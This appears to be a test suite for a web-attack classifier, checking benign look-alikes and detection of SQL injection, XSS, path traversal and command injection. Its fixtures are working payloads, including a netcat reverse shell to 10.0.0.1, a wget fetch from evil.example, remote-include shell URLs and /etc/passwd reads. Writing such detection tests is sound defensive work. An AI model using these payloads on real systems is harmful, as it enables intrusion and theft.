import { describe, expect, it } from 'vitest';
import { classifyHttp, classifyPath, classifyValue, splitQuery } from './classify.js';
import { WEB_ATTACK_SEVERITY } from './types.js';

const attack = (v: string): string | null => classifyValue(v).attack;

describe('classifyValue: benign look-alikes stay benign', () => {
  const benign = [
    "O'Brien",
    "mr O'Brien jr.",
    "McDonald's & Sons",
    "D'Souza, Patrick",
    "L'Oréal",
    'select a plan',
    'please select a plan',
    'Select your country',
    'order by date',
    'union station',
    'join the union',
    'delete my account please',
    'update my address',
    'drop off at 5pm',
    'from A to B',
    'having fun',
    '<b>bold</b>?',
    'use <b> for bold',
    'the <div> tag is a block element',
    'I <3 this product',
    'a<b',
    '3 < 4 > 2',
    'email me <john@example.com>',
    'AT&T',
    'salt & pepper',
    'black|white',
    'yes; no; maybe',
    'a=b; c=d',
    'and/or',
    '1+1=2',
    '2*3=6',
    '5 - 3 = 2',
    '50%',
    'C:\\Users\\alice\\Documents\\notes.txt',
    '/home/bob/photos',
    'docs/readme.md',
    'https://www.example.com/page?id=1&sort=asc',
    'https://cdn.example.net/img/logo.png',
    'https://example.com/#section-2',
    'mailto:info@example.com',
    'ping me later',
    'type a message',
    'sleep well',
    'id',
    'javascript: the good parts',
    'report_2023.pdf',
  ];
  for (const value of benign) {
    it(JSON.stringify(value), () => {
      expect(classifyValue(value)).toEqual({ attack: null, confidence: 0, rule: '', evidence: '' });
    });
  }
});

describe('classifyValue: SQL injection', () => {
  const cases: Array<[string, string]> = [
    ["1' OR '1'='1", 'sqli.tautology'],
    ["' or 1=1 -- ", 'sqli.tautology'],
    ['1 or 1=1', 'sqli.tautology'],
    [' OR x=x', 'sqli.tautology'],
    ["admin'--", 'sqli.comment-truncation'],
    ["-2214') union all select 8228#", 'sqli.union-select'],
    ['1 UNION/**/SELECT username, password FROM users', 'sqli.union-select'],
    ['1/*!50000union*/ select 1', 'sqli.union-select'],
    ['1) or sleep(5) and (2211=2211', 'sqli.time-based'],
    ["1)) or benchmark(10000000,MD5(1))#", 'sqli.time-based'],
    ["1'; waitfor delay '0:0:5'--", 'sqli.time-based'],
    ['1; drop table users', 'sqli.stacked-query'],
    ["' ORDER BY 18# ", 'sqli.order-by-probe'],
    ['1 order by 3--', 'sqli.order-by-probe'],
    ["t' exec master..xp_cmdshell 'dir'", 'sqli.os-command'],
    ['1 union select table_name from information_schema.tables', 'sqli.union-select'],
    ['-1 or 1 in (select table_name from information_schema.tables)', 'sqli.subquery'],
    ['1%27%20or%20%271%27%3D%271', 'sqli.tautology'],
  ];
  for (const [value, rule] of cases) {
    it(JSON.stringify(value), () => {
      const v = classifyValue(value);
      expect(v.attack).toBe('sqli');
      expect(v.rule).toBe(rule);
      expect(v.confidence).toBeGreaterThan(0.5);
      expect(v.evidence.length).toBeGreaterThan(0);
      expect(v.evidence.length).toBeLessThanOrEqual(200);
    });
  }
});

describe('classifyValue: XSS', () => {
  const cases: Array<[string, string]> = [
    ['<script>alert(1)</script>', 'xss.script-tag'],
    ['<ScRiPt src=//evil.example/x.js>', 'xss.script-tag'],
    ['<img src=x onerror=alert(1)>', 'xss.event-handler'],
    ['<svg/onload=alert(1)>', 'xss.event-handler'],
    ['<a href="javascript:alert(1)">x</a>', 'xss.script-url'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'xss.script-url'],
    ['<iframe src=data:text/html;base64,PHNjcmlwdD4=>', 'xss.script-url'],
    ['<DIV STYLE="width: expression(alert(1));">', 'xss.css-expression'],
    ['<iframe src="https://evil.example">', 'xss.dangerous-tag'],
    ['%3Cscript%3Ealert(1)%3C/script%3E', 'xss.script-tag'],
    ['&lt;img src=x onerror=alert(1)&gt;', 'xss.event-handler'],
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'xss.script-tag'],
    ['"><svg onload=confirm`1`>', 'xss.event-handler'],
    ["';alert(document.cookie);//", 'xss.script-injection'],
    ["{{constructor.constructor('alert(1)')()}}", 'xss.template-injection'],
    ['<!--<img src="--><img src=x onerror=alert(1)//">', 'xss.event-handler'],
  ];
  for (const [value, rule] of cases) {
    it(JSON.stringify(value), () => {
      const v = classifyValue(value, { plusAsSpace: !value.includes('+AD') });
      expect(v.attack).toBe('xss');
      expect(v.rule).toBe(rule);
    });
  }
});

describe('classifyValue: traversal, LFI and RFI', () => {
  const cases: Array<[string, string]> = [
    ['../../../../etc/passwd', 'traversal.dot-dot'],
    ['..\\..\\..\\windows\\win.ini', 'traversal.dot-dot'],
    ['....//....//etc/passwd', 'traversal.dot-dot'],
    ['%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'traversal.dot-dot'],
    ['..%c0%af..%c0%afetc/passwd', 'traversal.dot-dot'],
    ['..%252f..%252fboot.ini', 'traversal.dot-dot'],
    ['../config.php', 'traversal.dot-dot'],
    ['/etc/passwd', 'traversal.sensitive-file'],
    ['/proc/self/environ', 'traversal.sensitive-file'],
    ['c:\\windows\\win.ini', 'traversal.sensitive-file'],
    ['C:\\boot.ini', 'traversal.sensitive-file'],
    ['/var/log/apache2/', 'traversal.sensitive-file'],
    ['/usr/local/cpanel/logs', 'traversal.absolute-path'],
    ['php://filter/convert.base64-encode/resource=index.php', 'traversal.stream-wrapper'],
    ['file:///etc/passwd', 'traversal.stream-wrapper'],
    ['expect://id', 'traversal.stream-wrapper'],
    ['data://text/plain;base64,PD9waHA=', 'traversal.stream-wrapper'],
    ['zip://shell.jpg%23payload.php', 'traversal.stream-wrapper'],
    ['http://evil.example.net/shell.txt?', 'traversal.remote-include'],
    ['https://198.51.100.23/c99.txt??', 'traversal.remote-include'],
    ['ftp://203.0.113.9/r57.php%00', 'traversal.remote-include'],
    ['Li4vLi4vLi4vZXRjL3Bhc3N3ZA==', 'traversal.dot-dot.base64'],
  ];
  for (const [value, rule] of cases) {
    it(JSON.stringify(value), () => {
      const v = classifyValue(value);
      expect(v.attack).toBe('traversal');
      expect(v.rule).toBe(rule);
    });
  }

  it('does not flag ordinary redirect URLs', () => {
    expect(attack('https://www.example.com/account/settings')).toBeNull();
    expect(attack('https://www.example.com/index.php')).toBeNull();
    expect(attack('https://shop.example.com/cart?step=2')).toBeNull();
  });
});

describe('classifyValue: command injection', () => {
  const cases: Array<[string, string]> = [
    [';cat /etc/passwd', 'cmdi.separator-command'],
    ['| id', 'cmdi.separator-command'],
    ['a;id;', 'cmdi.separator-command'],
    ['127.0.0.1 && whoami', 'cmdi.separator-command'],
    ['`uname -a`', 'cmdi.separator-command'],
    ['$(wget http://evil.example/x.sh)', 'cmdi.separator-command'],
    ['%0Aping -c 3 127.0.0.1', 'cmdi.separator-command'],
    ['; sleep 5', 'cmdi.separator-command'],
    ['|| nc -e /bin/sh 10.0.0.1 4444', 'cmdi.separator-command'],
    [';cat${IFS}/etc/passwd', 'cmdi.separator-command'],
    [';{cat,/etc/passwd}', 'cmdi.separator-command'],
    ['& powershell -nop -c iex(1)', 'cmdi.separator-command'],
    ['| cmd /c dir', 'cmdi.separator-command'],
    ["CMD=$'cat /etc/passwd';$CMD", 'cmdi.command'],
    ['/usr/bin/id|', 'cmdi.command'],
    ['<!--#exec cmd="/bin/cat /etc/passwd"-->', 'cmdi.ssi-exec'],
    [";system('id')", 'cmdi.code-exec'],
  ];
  for (const [value, rule] of cases) {
    it(JSON.stringify(value), () => {
      const v = classifyValue(value);
      expect(v.attack).toBe('cmdi');
      expect(v.rule).toBe(rule);
    });
  }

  it('needs a characteristic argument for words that are also English', () => {
    expect(attack('; ping me')).toBeNull();
    expect(attack('; sleep well')).toBeNull();
    expect(attack('; type here')).toBeNull();
    expect(attack('; ping -c 3 127.0.0.1')).toBe('cmdi');
  });
});

describe('classifyPath / classifyHttp', () => {
  it('leaves ordinary paths alone', () => {
    expect(classifyPath('/api/v1/items').attack).toBeNull();
    expect(classifyPath('/static/js/app.min.js').attack).toBeNull();
    expect(classifyPath('/etc-info/passwords-guide').attack).toBeNull();
  });

  it('flags traversal and sensitive files in the decoded path', () => {
    expect(classifyPath('/static/..%2f..%2f..%2fetc/passwd').rule).toBe('traversal.dot-dot');
    expect(classifyPath('/%2e%2e/%2e%2e/windows/win.ini').attack).toBe('traversal');
    expect(classifyPath('/.git/config').rule).toBe('traversal.sensitive-file');
  });

  it('splits the query and returns the strongest finding', () => {
    const v = classifyHttp({ method: 'GET', path: '/search', query: 'q=shoes&id=1%27%20union%20select%201,2--' });
    expect(v.attack).toBe('sqli');
    expect(v.rule).toBe('sqli.union-select');
    expect(classifyHttp({ method: 'GET', path: '/search?q=red+shoes&page=2' }).attack).toBeNull();
    expect(classifyHttp({ path: '/view?file=../../../../etc/passwd' }).attack).toBe('traversal');
  });

  it('looks into form and JSON bodies', () => {
    const form = classifyHttp({
      method: 'POST',
      path: '/login',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: "user=admin%27--&password=x",
    });
    expect(form.attack).toBe('sqli');
    const json = classifyHttp({ method: 'POST', path: '/api/comments', headers: { 'Content-Type': 'application/json' }, body: '{"text":"<script>alert(1)</script>"}' });
    expect(json.attack).toBe('xss');
    expect(classifyHttp({ method: 'POST', path: '/api', body: '{"name":"O\'Brien","plan":"select a plan"}' }).attack).toBeNull();
  });

  it('splitQuery keeps bare values and drops names', () => {
    expect(splitQuery('a=1&b&&c=')).toEqual(['1', 'b', '']);
  });

  it('exports the severity mapping', () => {
    expect(WEB_ATTACK_SEVERITY).toEqual({
      sqli: { severity: 'CRITICAL', confidence: 0.9 },
      xss: { severity: 'HIGH', confidence: 0.8 },
      traversal: { severity: 'HIGH', confidence: 0.8 },
      cmdi: { severity: 'CRITICAL', confidence: 0.9 },
    });
  });

  it('caps values before matching', () => {
    const padded = `${'a'.repeat(100)} <script>alert(1)</script>`;
    expect(classifyValue(padded, { maxValueLength: 50 }).attack).toBeNull();
    expect(classifyValue(padded).attack).toBe('xss');
  });
});
